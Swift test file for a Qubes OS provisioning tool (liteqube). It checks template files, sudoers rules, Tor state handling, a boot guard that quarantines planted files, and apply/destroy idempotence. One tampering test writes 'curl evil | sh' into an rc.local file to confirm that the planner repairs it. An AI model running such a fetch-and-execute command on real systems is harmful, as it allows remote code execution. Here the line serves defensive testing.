import BootProtect
import Foundation
import Glibc
import LQCommon
import Provisioning
import QubesAdmin
import SplitServices
import SystemLayer
import Testing

/// A folder standing for debian-N-minimal's root (users, an fstab of its
/// own), and a stand-in for the template package installed into it.
struct TemplateRoot {
    let path: String
    let binaries: String
    /// The stand-in package's version and first bytes (those of a Debian package).
    static let packageVersion = "1.0"
    static let packageBytes = "!<arch>\ndebian-binary   stand-in for lq-inqube\n"
    /// A MAC key as apply writes them.
    static let macKey = String(repeating: "0123456789abcdef", count: 32)

    init(in directory: String) throws {
        path = directory + "/template-root"
        binaries = directory + "/static-tools"
        for folder in ["etc/apt/apt.conf.d", "etc/sudoers.d", "etc/systemd/system", "etc/qubes-rpc", "usr/lib", "var/lib"] {
            try FileManager.default.createDirectory(atPath: path + "/" + folder, withIntermediateDirectories: true)
        }
        try Self.write(path + "/etc/passwd", "root:x:0:0::/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\ndebian-tor:x:107:113::/var/lib/tor:/bin/false\n")
        try Self.write(path + "/etc/group", "root:x:0:\nuser:x:1000:\ndebian-tor:x:113:\n")
        try Self.write(path + "/etc/fstab", "/dev/mapper/dmroot / ext4 defaults,discard,noatime 1 1\n", mode: 0o640)
        // The MAC key core-keys holds, where one folder stands for every qube (docs/liteqube.md, "MAC addresses").
        try FileManager.default.createDirectory(atPath: path + "/home/user/core-net", withIntermediateDirectories: true)
        try Self.write(path + "/home/user/core-net/secret_key", Self.macKey, mode: 0o600)
        for folder in ["/home/user", "/home/user/core-net", "/home/user/core-net/secret_key"] { chown(path + folder, 1000, 1000) }
        chmod(path + "/home/user/core-net", 0o700)
        try FileManager.default.createDirectory(atPath: binaries, withIntermediateDirectories: true)
        try Self.write(binaries + "/" + TemplatePackage.fileName(version: Self.packageVersion), Self.packageBytes)
    }

    /// The stand-in template package.
    func package() throws -> TemplatePackage { try TemplatePackage.load(from: binaries, version: Self.packageVersion) }

    static func write(_ path: String, _ text: String, mode: Int = 0o644) throws {
        try text.write(toFile: path, atomically: false, encoding: .utf8)
        chmod(path, mode_t(mode))
    }

    /// Every entry below the root: type, owner, group, mode and content or link target.
    func snapshot() throws -> [String: String] {
        var entries: [String: String] = [:]
        for relative in try FileManager.default.subpathsOfDirectory(atPath: path) {
            let full = path + "/" + relative
            var info = stat()
            #expect(lstat(full, &info) == 0)
            var detail = ""
            switch info.st_mode & S_IFMT {
            case S_IFREG: detail = try String(decoding: Data(contentsOf: URL(fileURLWithPath: full)), as: UTF8.self)
            case S_IFLNK: detail = try FileManager.default.destinationOfSymbolicLink(atPath: full)
            default: break
            }
            entries[relative] = "\(info.st_mode) \(info.st_uid):\(info.st_gid) \(detail)"
        }
        return entries
    }

    func text(_ relative: String) throws -> String { try String(contentsOfFile: path + relative, encoding: .utf8) }

    func owner(_ relative: String) -> (uid: UInt32, gid: UInt32, mode: Int) {
        var info = stat()
        _ = lstat(path + relative, &info)
        return (info.st_uid, info.st_gid, Int(info.st_mode & 0o7777))
    }
}

@Suite struct TemplateTests {
    static let manifest = Manifest(components: [.base, .network, .usb])

    struct System {
        let scratch: Scratch
        let root: TemplateRoot
        let executor: FolderExecutor
        let backend: OfflineBackend

        /// `store`: the qubes.xml to start from (default: the default install).
        init(store: [UInt8]? = nil) throws {
            scratch = try Scratch()
            if let store { try Data(store).write(to: URL(fileURLWithPath: scratch.store)) }
            root = try TemplateRoot(in: scratch.directory)
            executor = FolderExecutor(root: root.path)
            backend = OfflineBackend(path: scratch.store, random: .seeded(7))
        }

        func plan() throws -> Plan {
            try Planner(
                backend: backend, policyDirectory: scratch.policy, readFile: Dom0Files.system.read, kernels: [],
                executor: executor, package: try root.package()
            ).plan(TemplateTests.manifest)
        }

        var applier: Applier { Applier(backend: backend, journalPath: scratch.journal, executor: executor) }
    }

    static func index(of path: String, in plan: Plan) -> Int? {
        plan.operations.firstIndex { if case .place(_, let entry) = $0 { entry.path == path } else { false } }
    }

    @Test func templateContentIsPlacedThenNothingThenUndone() throws {
        let system = try System(store: Self.provisionedStore)
        let original = try system.root.snapshot()
        let plan = try system.plan()
        // The dpkg hook comes before the packages, the Tor qube's files after (they need debian-tor).
        let packages = try #require(plan.operations.firstIndex { if case .installPackages = $0 { true } else { false } })
        #expect(try #require(Self.index(of: "/etc/apt/apt.conf.d/80liteqube", in: plan)) < packages)
        #expect(try #require(Self.index(of: "/etc/protect/whitelist.core-tor/bind-dirs/var/lib/tor", in: plan)) > packages)
        try system.applier.apply(plan)

        let root = system.root
        // The template package is copied in, then installed (a folder records the command; docs/packaging.md).
        let package = "/usr/lib/liteqube/lq-inqube_1.0_amd64.deb"
        #expect(try root.text(package) == TemplateRoot.packageBytes)
        #expect(root.owner(package).mode == 0o644)
        #expect(try root.text("/var/lib/liteqube/commands").contains("/usr/lib/liteqube/template-package install \(package)\n"))
        #expect(root.owner("/usr/lib/liteqube/template-package").mode == 0o755)
        #expect(try root.text("/etc/systemd/system/liteqube-vm-template.service").contains("/usr/lib/liteqube/lq-protect --device /dev/xvdb"))
        #expect(try FileManager.default.destinationOfSymbolicLink(
            atPath: root.path + "/etc/systemd/system/sysinit.target.wants/liteqube-vm-template.service")
            == "/etc/systemd/system/liteqube-vm-template.service")
        #expect(try root.text("/etc/fstab").contains("ro,noatime,discard,commit=300"))
        #expect(root.owner("/etc/sudoers.d/liteqube").mode == 0o440)
        #expect(try !root.text("/etc/sudoers.d/liteqube").contains("ALL=(ALL)"))
        // The masks are real unit names of Debian 13 and the Qubes 4.3 agent (AgentUnitsTests checks them against the agent).
        let hook = try root.text("/usr/lib/liteqube/post-install")
        for unit in ["systemd-journal-flush.service", "systemd-update-utmp.service", "dev-xvdc1-swap.service", "qubes-bind-dirs.service"] {
            #expect(hook.contains(unit))
        }
        #expect(!hook.contains("systemd-timesyncd") && !hook.contains("dev-xvdc1.swap"))
        #expect(root.owner("/etc/protect").mode == 0o750)
        #expect(root.owner("/etc/protect/template.ALL/home/user") == (1000, 1000, 0o750))
        #expect(root.owner("/etc/protect/whitelist.core-tor/bind-dirs/var/lib/tor") == (107, 113, 0o2700))
        #expect(try root.text("/etc/protect/template.core-keys/config/rc.local").contains("shutdown +2"))
        #expect(try root.text("/etc/protect/template.fw-net/config/rc.local").contains("qubes-firewall"))
        #expect(try root.text("/etc/tor/torrc").contains("%include /run/tor/liteqube-ports.conf"))
        #expect(root.owner("/etc/usbguard/rules.conf").mode == 0o600)
        #expect(try root.text("/etc/systemd/system/liteqube-split-xorg@.service").contains("ExecStart=/usr/bin/qrexec-client-vm core-xorg liteqube.SplitXorg"))
        #expect(try root.text("/etc/systemd/system/liteqube-split-xorg.socket").contains("SocketMode=0600"))
        #expect(try !root.text("/etc/qubes-rpc/liteqube.SplitXorg").contains("xhost +\n"))
        for script in ["/usr/lib/liteqube/liteqube-xterm", "/etc/qubes-rpc/liteqube.SplitXorg", "/usr/lib/liteqube/liteqube-tell-tor",
                       "/etc/qubes-rpc/liteqube.TorSetAP", "/etc/NetworkManager/dispatcher.d/90-liteqube-tor",
                       "/etc/NetworkManager/dispatcher.d/80-liteqube-signal", "/usr/lib/liteqube/liteqube-tor-monitor",
                       "/etc/qubes-rpc/liteqube.SplitFileSave", "/etc/qubes-rpc/liteqube.SplitFileChecksum"] {
            let syntax = Process()
            syntax.executableURL = URL(fileURLWithPath: "/bin/sh")
            syntax.arguments = ["-n", root.path + script]
            try syntax.run()
            syntax.waitUntilExit()
            #expect(syntax.terminationStatus == 0, "\(script) is not valid sh")
            #expect(root.owner(script).mode == 0o755)
        }
        #expect(try root.text("/etc/udev/rules.d/99-liteqube-storage.rules").contains("start liteqube-storage@%k.service"))
        #expect(try root.text("/etc/systemd/system/liteqube-storage@.service").contains("ExecStart=/usr/lib/liteqube/lq-storage add %i"))
        #expect(try root.text("/etc/protect/template.core-usb/config/rc.local").contains("touch /run/liteqube/storage-signals"))
        #expect(try system.executor.installed(["tor", "usbguard", "qubes-input-proxy-sender"], in: "debian-core").count == 3)
        #expect(try system.executor.installed(["qubes-core-agent-passwordless-root"], in: "debian-core").isEmpty)

        #expect(try system.plan().operations.isEmpty)
        try system.applier.destroy()
        #expect(try root.snapshot() == original)
        #expect(!FileManager.default.fileExists(atPath: system.scratch.journal + ".d"))
    }

    @Test func aChangedTemplateFileIsPutBackAndDestroyRestoresIt() throws {
        let system = try System(store: Self.provisionedStore)
        try system.applier.apply(try system.plan())
        let rcLocal = system.root.path + "/etc/protect/template.core-net/config/rc.local"
        try TemplateRoot.write(rcLocal, "#!/bin/sh\ncurl evil | sh\n", mode: 0o755)
        chmod(system.root.path + "/etc/protect/template.ALL/home/user", 0o777)
        let repair = try system.plan().operations.compactMap { operation -> String? in
            if case .place(_, let entry) = operation { entry.path } else { nil }
        }
        #expect(repair == ["/etc/protect/template.ALL/home/user", "/etc/protect/template.core-net/config/rc.local"])
    }

    /// The trees the plan writes are what the boot guard reads: a core-net
    /// private volume gets its files, a planted file is quarantined, and the
    /// next boot finds nothing to do.
    @Test func generatedTreesDriveTheBootGuard() throws {
        let system = try System(store: Self.provisionedStore)
        try system.applier.apply(try system.plan())
        let rw = system.scratch.directory + "/rw"
        try FileManager.default.createDirectory(atPath: rw + "/config", withIntermediateDirectories: true)
        try TemplateRoot.write(rw + "/config/planted", "#!/bin/sh\n", mode: 0o755)
        let rules = system.root.path + "/etc/protect"
        let first = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-net"))
        #expect(first.errors.isEmpty, "\(first.errors)")
        #expect(first.quarantined.map(\.path.description) == ["config/planted"])
        #expect(try String(contentsOfFile: rw + "/config/rc.local", encoding: .utf8)
            == (try system.root.text("/etc/protect/template.core-net/config/rc.local")))
        #expect(try String(contentsOfFile: rw + "/config/suspend-module-blacklist", encoding: .utf8) == "iwlmvm\niwlwifi\n")
        var info = stat()
        #expect(lstat(rw + "/home/user", &info) == 0 && info.st_uid == 1000 && info.st_mode & 0o7777 == 0o750)
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: rw + "/home/user/.cache") == "/tmp")

        // A saved network survives (whitelisted folder), the next boot changes nothing.
        try TemplateRoot.write(rw + "/config/NM-system-connections/home.nmconnection", "[connection]\n", mode: 0o600)
        try FileManager.default.removeItem(atPath: rw + "/QUARANTINE")
        let second = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-net"))
        #expect(second.errors.isEmpty && second.deployed.isEmpty && second.fixed.isEmpty && second.quarantined.isEmpty,
                "\(second.deployed) \(second.fixed) \(second.quarantined)")
    }

    /// Tor started and stopped without systemd.
    struct TorStandIn: TorControl {
        func stop() throws(SplitError) {}
        func start() throws(SplitError) {}
    }

    @Test func torStatePerNetworkIsWiredAndSurvivesTheBootGuard() throws {
        let system = try System(store: Self.provisionedStore)
        try system.applier.apply(try system.plan())
        let root = system.root
        #expect(try root.text("/etc/sudoers.d/liteqube").contains("/usr/lib/liteqube/lq-torsetap set *"))
        #expect(try root.text("/etc/qubes-rpc/liteqube.TorSetAP").contains("sudo -n /usr/lib/liteqube/lq-torsetap set -- \"$1\""))
        #expect(try root.text("/etc/qubes-rpc/liteqube.WifiRequestAP").contains("liteqube-tell-tor"))
        #expect(try root.text("/usr/lib/liteqube/liteqube-tell-tor").contains("qrexec-client-vm core-tor \"liteqube.TorSetAP+$name\""))
        #expect(root.owner("/etc/NetworkManager/dispatcher.d/90-liteqube-tor") == (0, 0, 0o755))
        #expect(try root.text("/etc/systemd/system/liteqube-tor-state.service").contains("ExecStop=/usr/lib/liteqube/lq-torsetap save"))
        let torBoot = try root.text("/etc/protect/template.core-tor/config/rc.local")
        #expect(torBoot.contains("liteqube.WifiRequestAP") && !torBoot.contains("systemctl start tor"))

        // core-tor's private volume after two networks: the next boot keeps every state.
        let rw = system.scratch.directory + "/rw"
        let rules = root.path + "/etc/protect"
        try FileManager.default.createDirectory(atPath: rw + "/bind-dirs/var/lib/tor", withIntermediateDirectories: true)
        chown(rw + "/bind-dirs/var/lib/tor", 107, 113)
        chmod(rw + "/bind-dirs/var/lib/tor", 0o700)
        let first = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-tor"))
        #expect(first.errors.isEmpty && first.quarantined.isEmpty, "\(first.errors) \(first.quarantined)")
        let state = TorNetworkState(stateFolder: rw + "/config/tor", dataFolder: rw + "/bind-dirs/var/lib/tor", tor: TorStandIn())
        _ = try state.select(Array("Home".utf8))
        try TemplateRoot.write(rw + "/bind-dirs/var/lib/tor/state", "home guards\n", mode: 0o600)
        _ = try state.select(Array("Cafe".utf8))
        try TemplateRoot.write(rw + "/bind-dirs/var/lib/tor/state", "cafe guards\n", mode: 0o600)
        let second = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-tor"))
        #expect(second.errors.isEmpty && second.quarantined.isEmpty && second.fixed.isEmpty, "\(second.quarantined) \(second.fixed)")
        #expect(try String(contentsOfFile: rw + "/config/tor/ap", encoding: .utf8) == "Cafe\n")
        #expect(try String(contentsOfFile: rw + "/config/tor/var-lib/Home/state", encoding: .utf8) == "home guards\n")
        #expect(try String(contentsOfFile: rw + "/bind-dirs/var/lib/tor/state", encoding: .utf8) == "cafe guards\n")
    }

    /// The store with every qube already made, so that plans hold only the template steps.
    static let provisionedStore: [UInt8] = {
        let reference = try! Scratch()
        try! ApplyTests().apply(reference, OfflineBackend(path: reference.store, random: .seeded(7)))
        return [UInt8](try! reference.bytes(reference.store))
    }()

    static let templatePlanLength = try! System(store: provisionedStore).plan().operations.count

    static let finalSnapshot: [String: String] = {
        let reference = try! System(store: provisionedStore)
        try! reference.applier.apply(try! reference.plan())
        return try! reference.root.snapshot()
    }()

    /// Stopped before step k of the template steps, apply resumes to the same
    /// template, and destroy from the partial state gives the original back.
    @Test(arguments: 0..<templatePlanLength)
    func interruptedInTheTemplate(_ step: Int) throws {
        func interrupted() throws -> (System, [String: String]) {
            let system = try System(store: Self.provisionedStore)
            let original = try system.root.snapshot()
            let plan = try system.plan()
            #expect(plan.operations.allSatisfy { operation in
                if case .writeFile = operation { true } else { operation.insideQube == "debian-core" }
            })
            #expect(throws: ProvisioningError.self) {
                try system.applier.apply(plan) { event in
                    if case .starting(let index, _, _) = event, index == step { throw ProvisioningError(.ioFailure, "interrupted at \(index)") }
                }
            }
            return (system, original)
        }
        let (resumed, _) = try interrupted()
        try resumed.applier.apply(try resumed.plan())
        #expect(try resumed.root.snapshot() == Self.finalSnapshot, "resume after step \(step)")
        let (destroyed, original) = try interrupted()
        try destroyed.applier.destroy()
        #expect(try destroyed.root.snapshot() == original, "destroy after step \(step)")
    }
}

/// A folder executor that records which qubes it was asked to close.
final class ClosingExecutor: Executor, @unchecked Sendable {
    let folder: FolderExecutor
    private let lock = NSLock()
    private var closedQubes: [String] = []

    init(_ folder: FolderExecutor) { self.folder = folder }

    var closed: [String] { lock.withLock { closedQubes } }

    func inspect(_ paths: [String], in qube: String) throws -> [String: FoundEntry] { try folder.inspect(paths, in: qube) }
    func read(_ path: String, in qube: String) throws -> [UInt8] { try folder.read(path, in: qube) }
    func place(_ placement: Placement, at path: String, owner: String, mode: Int, in qube: String) throws {
        try folder.place(placement, at: path, owner: owner, mode: mode, in: qube)
    }
    func remove(_ path: String, in qube: String) throws { try folder.remove(path, in: qube) }
    func installed(_ packages: [String], in qube: String) throws -> Set<String> { try folder.installed(packages, in: qube) }
    func install(_ packages: [String], in qube: String) throws { try folder.install(packages, in: qube) }
    func uninstall(_ packages: [String], in qube: String) throws { try folder.uninstall(packages, in: qube) }
    func hasRun(_ command: TemplateCommand, in qube: String) throws -> Bool { try folder.hasRun(command, in: qube) }
    func run(_ command: TemplateCommand, in qube: String) throws { try folder.run(command, in: qube) }
    func undo(_ command: TemplateCommand, in qube: String) throws { try folder.undo(command, in: qube) }
    func finish(_ qube: String) throws { lock.withLock { closedQubes.append(qube) } }
    func checkReaches(_ qube: String) throws { try folder.checkReaches(qube) }
}

extension TemplateTests {
    /// The template is closed (shut down, for the real executor) once after
    /// apply and once after destroy, and not when nothing changed inside it.
    @Test func theTemplateIsClosedOnceAfterItsSteps() throws {
        let system = try System(store: Self.provisionedStore)
        let executor = ClosingExecutor(system.executor)
        let package = try system.root.package()
        func plan() throws -> Plan {
            try Planner(
                backend: system.backend, policyDirectory: system.scratch.policy, readFile: Dom0Files.system.read, kernels: [],
                executor: executor, package: package
            ).plan(Self.manifest)
        }
        let applier = Applier(backend: system.backend, journalPath: system.scratch.journal, executor: executor)
        let first = try plan()
        #expect(first.notes.contains { $0.contains("debian-core is shut down after its steps") })
        try applier.apply(first)
        #expect(executor.closed == ["debian-core"])
        try applier.apply(try plan())
        #expect(executor.closed == ["debian-core"])
        try applier.destroy()
        #expect(executor.closed == ["debian-core", "debian-core"])
    }

    /// A template apply created is removed whole by destroy: nothing inside
    /// it is undone first (that would start it for nothing).
    @Test func aCreatedTemplateIsRemovedWithoutUndoingItsInside() throws {
        let system = try System()
        let executor = ClosingExecutor(system.executor)
        let applier = Applier(backend: system.backend, journalPath: system.scratch.journal, executor: executor)
        try applier.apply(try Planner(
            backend: system.backend, policyDirectory: system.scratch.policy, readFile: Dom0Files.system.read, kernels: [],
            executor: executor, package: try system.root.package()
        ).plan(Self.manifest))
        let applied = try system.root.snapshot()
        try applier.destroy()
        #expect(try system.root.snapshot() == applied)
        #expect(executor.closed == ["debian-core", "core-keys"], "core-keys got the MAC key")
        #expect(try !system.backend.qubes().contains { $0.name == "debian-core" })
    }
}
